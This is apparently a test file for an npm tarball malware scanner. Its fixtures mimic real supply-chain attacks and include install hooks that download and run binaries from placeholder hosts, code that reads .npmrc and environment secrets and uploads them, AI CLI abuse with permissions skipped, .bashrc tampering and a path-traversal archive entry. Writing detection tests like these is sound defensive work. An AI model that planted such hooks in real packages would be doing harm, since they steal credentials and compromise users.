import assert from "node:assert/strict";
import { test } from "node:test";
import { severityRank } from "../src/model.js";
import { analyzeTarball } from "../src/tarball/analyze.js";
import { extractTarball } from "../src/tarball/extract.js";
import { buildTarball, manifest } from "./tarball-fixture.js";

// Inert look-alikes of real incidents: the shapes (hooks, APIs, strings) are real,
// the payloads do nothing and every URL is https://example.invalid or TEST-NET.

async function verdictOf(files: Record<string, string>) {
  return analyzeTarball(await extractTarball(await buildTarball(files)));
}

function assertAtLeastHigh(analysis: Awaited<ReturnType<typeof verdictOf>>, expectedSignals: string[]) {
  assert.ok(analysis.verdict, "expected a verdict");
  assert.ok(severityRank(analysis.verdict.severity) >= severityRank("high"), `severity ${analysis.verdict.severity}`);
  const ids = new Set(analysis.signals.map((s) => s.id));
  for (const id of expectedSignals) assert.ok(ids.has(id as never), `missing signal ${id}; got ${[...ids].join(", ")}`);
}

const mangled = Array.from({ length: 40 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=_0x${(0x3c4d + i).toString(16)}[${i}];`).join("");

test("ua-parser-js 2021: preinstall downloads a miner from a raw IP and runs it", async () => {
  const analysis = await verdictOf({
    "package.json": manifest("ua-parser-js", { preinstall: "sh preinstall.sh" }),
    "preinstall.sh":
      "#!/bin/sh\ncurl http://203.0.113.7/download/jsextension -o jsextension && chmod +x jsextension && ./jsextension -k --tls --rig-id q -o pool.minexmr.example.invalid:443\n",
  });
  assertAtLeastHigh(analysis, ["download-and-run", "cryptominer", "raw-ip-url"]);
  assert.equal(analysis.verdict?.severity, "critical");
});

test("coa/rc 2021: preinstall runs an obfuscated script that fetches and registers a DLL", async () => {
  const analysis = await verdictOf({
    "package.json": manifest("coa", { preinstall: "start /B node compile.js & node compile.js" }),
    "compile.js": `${mangled}const _0xcp=require('child_process');_0xcp.exec('curl https://example.invalid/sdd.dll -o sdd.dll && regsvr32.exe -s sdd.dll');`,
  });
  assertAtLeastHigh(analysis, ["mangled-identifiers", "exec", "windows-lolbin"]);
  assert.equal(analysis.verdict?.severity, "critical");
});

test("event-stream 2018: encrypted payload appended to a minified file", async () => {
  const normal = Array.from({ length: 30 }, (_, i) => `function step${i}(x) { return x + ${i}; }`).join("\n");
  const payload = `!function(){try{var r=require,t=process;var c=r("crypto").createDecipher("aes256",t.env.npm_package_description);var d=c.update("${"ab".repeat(1500)}","hex","utf8");var m=new module.constructor;m.paths=module.paths;m._compile(d,"")}catch(e){}}();`;
  const analysis = await verdictOf({ "package.json": manifest("flatmap-stream"), "index.min.js": `${normal}\n${payload}\n` });
  assertAtLeastHigh(analysis, ["appended-payload", "decrypt-and-run"]);
});

test("nx 2025: postinstall inventories credentials with AI CLIs and uploads them", async () => {
  const analysis = await verdictOf({
    "package.json": manifest("nx", { postinstall: "node telemetry.js" }),
    "telemetry.js": `const { spawnSync } = require("child_process"); const fs = require("fs"); const os = require("os");
const prompt = "inventory wallet files";
spawnSync("claude", ["--dangerously-skip-permissions", "-p", prompt]);
const npmrc = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
const data = JSON.stringify(process.env);
require("https").request("https://example.invalid/repos", { method: "POST" }).end(Buffer.from(data + npmrc).toString("base64"));
fs.appendFileSync(os.homedir() + "/.bashrc", "\\nsudo shutdown -h 0\\n");`,
  });
  assertAtLeastHigh(analysis, ["env-dump", "credential-files", "network", "ai-cli-abuse", "shell-rc-tamper"]);
  assert.equal(analysis.verdict?.severity, "critical");
});

test("Shai-Hulud 2025: postinstall secret scanner, workflow writer and self-publisher", async () => {
  const analysis = await verdictOf({
    "package.json": manifest("@ctrl/tinycolor", { postinstall: "node bundle.js" }),
    "bundle.js": `const { execSync } = require("child_process"); const fs = require("fs");
execSync("curl -sSL https://example.invalid/trufflehog.tar.gz | tar xz && ./trufflehog filesystem / --json");
fs.writeFileSync(".github/workflows/shai-hulud-workflow.yml", "on: push");
fetch("https://example.invalid/-/v1/search?text=maintainer:someone");
execSync("npm publish --access public");`,
  });
  assertAtLeastHigh(analysis, ["secret-scanner", "workflow-write", "self-publish"]);
  assert.equal(analysis.verdict?.severity, "critical");
});

test("chalk/debug 2025: obfuscated browser wallet hook, no install script", async () => {
  const analysis = await verdictOf({
    "package.json": manifest("debug"),
    "index.js": `${mangled}if(typeof window!=="undefined"&&window.ethereum){const _0xreq=window.ethereum.request;window.ethereum.request=async function(a){return _0xreq(a)};const _0xs=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){return _0xs.call(this,b)};}`,
  });
  assert.deepEqual(analysis.installScripts, {});
  assertAtLeastHigh(analysis, ["mangled-identifiers", "wallet-hook"]);
  assert.equal(analysis.verdict?.severity, "critical");
});

test("an ordinary HTTP client that reads the environment is not flagged", async () => {
  const analysis = await verdictOf({
    "package.json": manifest("tiny-http"),
    "index.js": `const https = require("https");
const proxy = process.env.HTTPS_PROXY;
module.exports = (url) => new Promise((ok) => https.get(url, (res) => ok(res.statusCode)));`,
  });
  assert.equal(analysis.verdict, undefined);
});

test("archive entries that escape the package folder are refused and flagged", async () => {
  const { create } = await import("tar");
  const { mkdtempSync, writeFileSync, rmSync } = await import("node:fs");
  const { join } = await import("node:path");
  const { tmpdir } = await import("node:os");
  const dir = mkdtempSync(join(tmpdir(), "parapet-traversal-"));
  try {
    writeFileSync(join(dir, "evil.js"), "x");
    const chunks: Buffer[] = [];
    const stream = create(
      {
        gzip: true,
        cwd: dir,
        preservePaths: true,
        onWriteEntry: (e: { path: string }) => {
          e.path = "package/../../evil.js";
        },
      } as never,
      ["evil.js"],
    );
    for await (const chunk of stream as AsyncIterable<Buffer>) chunks.push(chunk);
    const extracted = await extractTarball(Buffer.concat(chunks));
    assert.equal(extracted.files.length, 0);
    assert.ok(extracted.unsafePaths.length > 0);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("a corrupt tarball is a clear error, not a crash", async () => {
  await assert.rejects(extractTarball(Buffer.from("this is not gzip at all")), /./);
});

test("false-alarm shapes seen in the top 1,000 stay quiet", async () => {
  const code = Array.from({ length: 10 }, (_, i) => `// generated table ${i}`).join("\n");
  // entities: a generated decode table, one 25k-character string literal after a comment header.
  const table = await verdictOf({
    "package.json": manifest("entities-like"),
    "decode-data.js": `${code}\nexport const htmlDecodeData = ["${"AEligMPacutebrevecircyfrgravelphamacr".repeat(700)}"];\n`,
  });
  assert.equal(table.verdict, undefined);
  // yargs: a completion script that tells the user to append itself to ~/.bashrc.
  const completion = await verdictOf({
    "package.json": manifest("yargs-like"),
    "completion.js": "export const template = `# installation: yargs completion >> ~/.bashrc\\n_complete() { COMPREPLY=() }`;\n",
  });
  assert.equal(completion.verdict?.severity, "low");
  // vite: looks up the *project's* .npmrc in a bundle that also spawns processes.
  const lookup = await verdictOf({
    "package.json": manifest("vite-like"),
    "chunk.js": 'import { spawn } from "node:child_process"; const files = [".npmrc", ".yarnrc"]; net.connect(1);\n',
  });
  assert.equal(lookup.verdict, undefined);
});
